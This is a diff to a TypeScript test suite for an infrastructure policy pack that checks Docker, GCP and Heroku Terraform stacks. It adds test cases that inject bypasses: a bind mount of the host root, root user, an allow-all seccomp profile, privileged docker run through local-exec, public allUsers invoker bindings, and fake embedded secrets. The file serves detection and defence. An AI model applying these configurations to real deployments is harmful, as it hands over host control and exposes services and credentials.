+      ["a password in a heredoc RUN", dockerfileWith("USER app", "RUN <<EOF\nmysql --password=hunter2 -e 'select 1'\nEOF\nUSER app")],
     ],
     good: [["ordinary ARG and ENV", dockerfileWith("USER app", "ENV PIP_INDEX_URL=https://pypi.example/simple PORT=8000\nUSER app")]],
   },
-  "WEEK-DOCKERFILE-004": {
+  [RULE_IDS.dockerfileNoRecommends]: {
     bad: [["apt-get install with recommends", dockerfileWith(" --no-install-recommends", "")]],
     good: [["--no-install-recommends", image(goodDockerfile)]],
   },
-  "WEEK-DOCKERFILE-005": {
+  [RULE_IDS.dockerfileNoCaches]: {
     bad: [
       ["apt lists left behind", dockerfileWith(" && rm -rf /var/lib/apt/lists/*", "")],
       ["pip's cache kept", dockerfileWith("pip install --no-cache-dir", "pip install")],
     ],
     good: [["caches removed", image(goodDockerfile)]],
   },
-  "WEEK-DOCKERFILE-006": {
+  [RULE_IDS.dockerfileNoRemoteAdd]: {
     bad: [
       ["ADD https://", dockerfileWith("ADD app.tar.gz", "ADD https://example.com/app.tar.gz")],
       ["ADD http:// in JSON form", dockerfileWith("ADD app.tar.gz /opt/app/", 'ADD ["http://example.com/app.tar.gz", "/opt/app/"]')],
@@ -456,6 +608,12 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["ADD of a git repository over ssh", dockerfileWith("ADD app.tar.gz", "ADD git@github.com:ada/week.git")],
       ["ADD of a git repository over https", dockerfileWith("ADD app.tar.gz", "ADD https://github.com/ada/week.git#v1.0.0")],
       ["ADD from a variable", dockerfileWith("ADD app.tar.gz", "ARG SRC=https://example.com/a.tgz\nADD ${SRC}")],
+      ["ADD of a double-quoted URL", dockerfileWith("ADD app.tar.gz", 'ADD "https://example.com/app.tar.gz"')],
+      ["ADD of a single-quoted URL", dockerfileWith("ADD app.tar.gz", "ADD 'https://example.com/app.tar.gz'")],
+      ["add in lower case", dockerfileWith("ADD app.tar.gz", "add https://example.com/app.tar.gz")],
+      ["an upper-case scheme", dockerfileWith("ADD app.tar.gz", "ADD HTTPS://example.com/app.tar.gz")],
+      ["an ftp URL", dockerfileWith("ADD app.tar.gz", "ADD ftp://example.com/app.tar.gz")],
+      ["an scp-like git address with another user", dockerfileWith("ADD app.tar.gz", "ADD deploy@git.example.com:ada/week.git")],
     ],
     good: [["ADD of a local archive", image(goodDockerfile)]],
   },
@@ -469,11 +627,12 @@ const cases = Object.entries(table).flatMap(([id, { bad, good }]) => [
 describe("policy rules on the synthesised document", () => {
   it.each(cases)("%s %s %s", (id, _verb, _what, make, fires) => {
     const report = check(id, make);
+    const warns = rule(id).level === "warning";
     if (fires) {
-      expect(report.findings).toBeGreaterThan(0);
-      expect(report.errors[0]).toMatch(new RegExp(`^\\[${id}\\] (policy/\\S+|[a-z_0-9]+\\.[\\w-]+|output\\.\\w+): .+\\. Fix: .+`));
+      expect(warns ? report.warnings.length : report.findings).toBeGreaterThan(0);
+      expect((warns ? report.warnings : report.errors)[0]).toMatch(new RegExp(`^\\[${id}\\] ([\\w-]+/\\S+|[a-z_0-9]+(\\.[\\w-]+)*): .+\\. Fix: .+`));
     } else {
-      expect(report).toEqual(expect.objectContaining({ findings: 0, errors: [] }));
+      expect(report).toEqual(expect.objectContaining({ findings: 0, errors: [], warnings: [] }));
     }
   });
 
@@ -490,7 +649,7 @@ describe("policy rules on the synthesised document", () => {
   });
 
   it("never shows a secret's value in a finding", () => {
-    const report = check("WEEK-SECRET-001", container({}, { env: ["DB_PASS=hunter2", "DB=postgresql://u:hunter2@db/week"] }));
+    const report = check(RULE_IDS.secretLiterals, container({}, { env: ["DB_PASS=hunter2", "DB=postgresql://u:hunter2@db/week"] }));
     expect(report.findings).toBe(2);
     expect(report.errors.join("\n")).not.toContain("hunter2");
   });
@@ -518,48 +677,48 @@ describe("pinned image references", () => {
 
 describe("suppressions", () => {
   it("waive one rule where they are, with the reason, and are counted", () => {
-    const report = check("WEEK-STATE-001", (s) => {
+    const report = check(RULE_IDS.statefulDestroyProtection, (s) => {
       const volume = new Volume(s, "v", { name: "scratch" });
-      suppress(volume, "WEEK-STATE-001", "scratch space that the course throws away every day");
+      suppress(volume, RULE_IDS.statefulDestroyProtection, "scratch space that the course throws away every day");
     });
     expect(report).toEqual(expect.objectContaining({ findings: 0, suppressions: 1 }));
   });
 
   it("waive the resources under the construct they are made on", () => {
-    const report = check("WEEK-DOCKER-003", (s) => {
+    const report = check(RULE_IDS.dockerContainerLimits, (s) => {
       const group = new Construct(s, "group");
       new Container(group, "c", { ...goodContainer, memory: undefined });
-      suppress(group, "WEEK-DOCKER-003", "a one-off job container that the test runs and removes");
+      suppress(group, RULE_IDS.dockerContainerLimits, "a one-off job container that the test runs and removes");
     });
     expect(report).toEqual(expect.objectContaining({ findings: 0, suppressions: 1 }));
   });
 
   it("must name a rule and give a reason", () => {
     const stack = new TerraformStack(testApp(), "s");
-    expect(() => suppress(stack, "DOCKER-1", "because it is fine here")).toThrow('ruleId must be a rule id such as WEEK-DOCKER-001, got "DOCKER-1"');
-    expect(() => suppress(stack, "WEEK-STATE-001", "ok")).toThrow('must say why in a sentence, got "ok"');
+    expect(() => suppress(stack, "DOCKER-1" as never, "because it is fine here")).toThrow('ruleId must be a rule id such as WEEK-DOCKER-001, got "DOCKER-1"');
+    expect(() => suppress(stack, RULE_IDS.statefulDestroyProtection, "ok")).toThrow('must say why in a sentence, got "ok"');
   });
 
   it("do not waive other rules, nor a resource added elsewhere by override", () => {
     expect(
-      check("WEEK-DOCKER-003", (s) => {
+      check(RULE_IDS.dockerContainerLimits, (s) => {
         const c = new Container(s, "c", { ...goodContainer, memory: undefined });
-        suppress(c, "WEEK-DOCKER-002", "the ports are opened on purpose in this test");
+        suppress(c, RULE_IDS.dockerLoopbackPorts, "the ports are opened on purpose in this test");
       }).findings,
     ).toBe(1);
     expect(
-      check("WEEK-DOCKER-004", (s) => {
+      check(RULE_IDS.dockerNoHostControl, (s) => {
         const c = new Container(s, "c", goodContainer);
-        suppress(c, "WEEK-DOCKER-004", "this container is allowed to be privileged in the test");
+        suppress(c, RULE_IDS.dockerNoHostControl, "this container is allowed to be privileged in the test");
         raw("docker_container", "other", { ...goodContainer, privileged: true })(s);
       }),
     ).toEqual(expect.objectContaining({ findings: 1, suppressions: 0 }));
   });
 
   it("cannot be borrowed by a resource that forges another construct's path in its metadata", () => {
-    const report = check("WEEK-DOCKER-004", (s) => {
+    const report = check(RULE_IDS.dockerNoHostControl, (s) => {
       const c = new Container(s, "c", goodContainer);
-      suppress(c, "WEEK-DOCKER-004", "this container is allowed to be privileged in the test");
+      suppress(c, RULE_IDS.dockerNoHostControl, "this container is allowed to be privileged in the test");
       raw("docker_container", "forged", { ...goodContainer, "//": { metadata: { path: "policy/c" } }, privileged: true })(s);
     });
     expect(report).toEqual(expect.objectContaining({ findings: 1, suppressions: 0 }));
@@ -580,7 +739,7 @@ describe("the pack at synth", () => {
     const { app, stack } = appStack();
     new Image(stack, "i", { name: "postgres:latest" });
     PolicyPack.applyTo(stack, WEEK_RULES);
-    expect(() => app.synth()).toThrow(/\[WEEK-DOCKER-001\] bad\/i: image "postgres:latest" is not pinned: its tag latest is a channel that moves\. Fix: name an exact release/);
+    expect(() => app.synth()).toThrow(/\[WEEK-DOCKER-001\] bad\/i: image "postgres:latest" is not pinned: its tag latest holds the channel latest, which moves\. Fix: name an exact release/);
   });
 
   it("judges overrides and aspects added after the pack, in the document synth writes", () => {
@@ -611,7 +770,7 @@ describe("the pack at synth", () => {
     process.env.CDKTF_CONTINUE_SYNTH_ON_ERROR_ANNOTATIONS = "1";
     let stack: TerraformStack;
     try {
-      stack = new TerraformStack(app, "cli");
+      stack = new TerraformStack(app, "local");
     } finally {
       delete process.env.CDKTF_CONTINUE_SYNTH_ON_ERROR_ANNOTATIONS;
     }
@@ -620,8 +779,8 @@ describe("the pack at synth", () => {
     const pack = PolicyPack.applyTo(stack, WEEK_RULES);
     app.synth();
     const manifest = JSON.parse(fs.readFileSync(path.join(app.outdir, "manifest.json"), "utf8"));
-    const annotations = manifest.stacks.cli.annotations as Array<{ level: string; message: string }>;
-    expect(annotations).toContainEqual(expect.objectContaining({ level: "@cdktf/error", message: expect.stringContaining('[WEEK-DOCKER-001] cli/i: image "postgres:17"') }));
+    const annotations = manifest.stacks.local.annotations as Array<{ level: string; message: string }>;
+    expect(annotations).toContainEqual(expect.objectContaining({ level: "@cdktf/error", message: expect.stringContaining('[WEEK-DOCKER-001] local/i: image "postgres:17"') }));
     expect(pack.report.findings).toBe(1);
   });
 
@@ -636,18 +795,19 @@ describe("the rule engine on another kind of document", () => {
   it("runs rules written for that kind, with the same suppressions by path", () => {
     type Services = { services: Record<string, { privileged?: boolean }> };
     const composeRule: PolicyRule<Services> = {
-      id: "WEEK-DOCKER-004",
+      id: RULE_IDS.dockerNoHostControl,
       statement: "No service is privileged.",
       check: (doc) => Object.entries(doc.services).filter(([, s]) => s.privileged === true).map(([name]) => ({ path: `compose/services/${name}`, message: "privileged", fix: "drop it" })),
     };
     const doc: Services = { services: { api: { privileged: true }, db: { privileged: true } } };
-    const table = new Map([["compose/services/db", [{ ruleId: "WEEK-DOCKER-004", reason: "a test waiver for the database" }]]]);
+    const table = new Map([["compose/services/db", [{ ruleId: RULE_IDS.dockerNoHostControl, reason: "a test waiver for the database" }]]]);
     expect(judgeDocument([composeRule], doc, table)).toEqual({
       rules: 1,
       findings: 1,
       suppressions: 1,
       errors: ["[WEEK-DOCKER-004] compose/services/api: privileged. Fix: drop it"],
-      suppressed: [{ ruleId: "WEEK-DOCKER-004", path: "compose/services/db", reason: "a test waiver for the database" }],
+      warnings: [],
+      suppressed: [{ ruleId: RULE_IDS.dockerNoHostControl, path: "compose/services/db", reason: "a test waiver for the database" }],
     });
     const terraform: TerraformDocument = { kind: "terraform", stack: "x", json: {} };
     expect(judgeDocument(WEEK_RULES, terraform).findings).toBe(0);
@@ -709,5 +869,57 @@ describe("Compose services through the same container checks", () => {
     ["host", "an escaped dollar in a bind", { volumes: ["./data$$:/d"] }],
   ] as Array<[keyof typeof checks, string, Record<string, unknown>]>)("%s check stays quiet on %s", (check, _what, change) => {
     expect(checks[check]({ ...good, ...change })).toEqual([]);
+  });
+});
+
+describe("the week's stacks with bypasses injected, as an outside review tries them", () => {
+  const TOKEN = `ghp_${"a1B2".repeat(9)}`;
+  type Injection = [string, (stack: TerraformStack) => void, string];
+  const firstContainer = (stack: TerraformStack) => stack.node.findAll().find((n): n is Container => n instanceof Container)!;
+  function judged(make: () => TerraformStack, inject: (stack: TerraformStack) => void) {
+    const stack = make();
+    inject(stack);
+    return PolicyPack.applyTo(stack, WEEK_RULES).judge();
+  }
+  const local: Injection[] = [
+    ["user +0", (st) => firstContainer(st).addOverride("user", "+0"), RULE_IDS.dockerNoHostControl],
+    ["a named volume bind-mounting /", (st) => st.addOverride("resource.docker_volume.root", { name: "root", driver_opts: { type: "none", o: "bind", device: "/" }, lifecycle: { prevent_destroy: true } }), RULE_IDS.dockerNoHostControl],
+    ["volumes_from", (st) => firstContainer(st).addOverride("volumes", [{ from_container: "week-database", container_path: "/x" }]), RULE_IDS.dockerNoHostControl],
+    ["a seccomp profile that allows all", (st) => firstContainer(st).addOverride("security_opts", ['seccomp={"defaultAction":"SCMP_ACT_ALLOW"}']), RULE_IDS.dockerNoHostControl],
+    ["a docker_service", (st) => st.addOverride("resource.docker_service.s", { name: "s", task_spec: { container_spec: { image: "busybox:1.37.0" } } }), RULE_IDS.knownResources],
+    ["a null_resource running docker", (st) => st.addOverride("resource.null_resource.n", { provisioner: [{ "local-exec": { command: "docker run --privileged busybox:1.37.0" } }] }), RULE_IDS.knownResources],
+    ["a macvlan network", (st) => st.addOverride("resource.docker_network.lan", { name: "lan", driver: "macvlan" }), RULE_IDS.knownResources],
+    ["a tag that moves", (st) => firstContainer(st).addOverride("image", "postgres:17.6-latest"), RULE_IDS.dockerPinnedImage],
+    ["a token in the command", (st) => firstContainer(st).addOverride("command", ["sh", "-c", `echo ${TOKEN}`]), RULE_IDS.secretLiterals],
+    ["a libpq DSN in a label", (st) => firstContainer(st).addOverride("labels", [{ label: "db", value: "host=db password=hunter2" }]), RULE_IDS.secretLiterals],
+  ];
+  it.each(local)("local: %s is a finding", (_what, inject, ruleId) => {
+    const report = judged(() => new LocalStack(testApp(), "local", weekConfig()), inject);
+    expect(report.errors.some((e) => e.startsWith(`[${ruleId}] `))).toBe(true);
+  });
+
+  const gcp: Injection[] = [
+    ["a v1 annotation that opens a service", (st) => st.addOverride("resource.google_cloud_run_service.old", { name: "x", location: "l", metadata: { annotations: { "run.googleapis.com/invoker-iam-disabled": "true" } }, template: { spec: { containers: [{ image: "gcr.io/p/a@sha256:" + "a".repeat(64) }] } } }), RULE_IDS.gcpRunNoPublicInvoke],
+    ["a custom role for allUsers", (st) => st.addOverride("resource.google_project_iam_member.open", { project: "p", role: "projects/p/roles/invoke", member: "allUsers" }), RULE_IDS.gcpRunNoPublicInvoke],
+    ["policy_data keys in another case", (st) => st.addOverride("resource.google_cloud_run_v2_service_iam_policy.p", { name: "api", policy_data: JSON.stringify({ BINDINGS: [{ ROLE: "roles/run.invoker", MEMBERS: ["allUsers"] }] }) }), RULE_IDS.gcpRunNoPublicInvoke],
+  ];
+  it.each(gcp)("gcp: %s is a finding", (_what, inject, ruleId) => {
+    const report = judged(() => new GcpStack(testApp(), "gcp", weekConfig()), inject);
+    expect(report.errors.some((e) => e.startsWith(`[${ruleId}] `))).toBe(true);
+  });
+
+  const heroku: Injection[] = [
+    ["a JDBC password in a plain config var", (st) => st.node.findAll().find((n): n is HerokuApp => n instanceof HerokuApp)!.addOverride("config_vars", { JDBC: "jdbc:postgresql://db/w;password=hunter2" }), RULE_IDS.herokuSensitiveConfig],
+    ["a remote Heroku build source", (st) => st.addOverride("resource.heroku_build.remote", { app_id: "x", source: { url: "https://example.com/app.tgz" } }), RULE_IDS.knownResources],
+  ];
+  it.each(heroku)("heroku: %s is a finding", (_what, inject, ruleId) => {
+    const report = judged(() => new HerokuStack(testApp(), "heroku", weekConfig()), inject);
+    expect(report.errors.some((e) => e.startsWith(`[${ruleId}] `))).toBe(true);
+  });
+
+  it("and without them, 0 findings on every stack", () => {
+    for (const make of [() => new LocalStack(testApp(), "local", weekConfig()), () => new GcpStack(testApp(), "gcp", weekConfig()), () => new HerokuStack(testApp(), "heroku", weekConfig())]) {
+      expect(judged(make, () => undefined)).toEqual(expect.objectContaining({ findings: 0, errors: [] }));
+    }
   });
 });
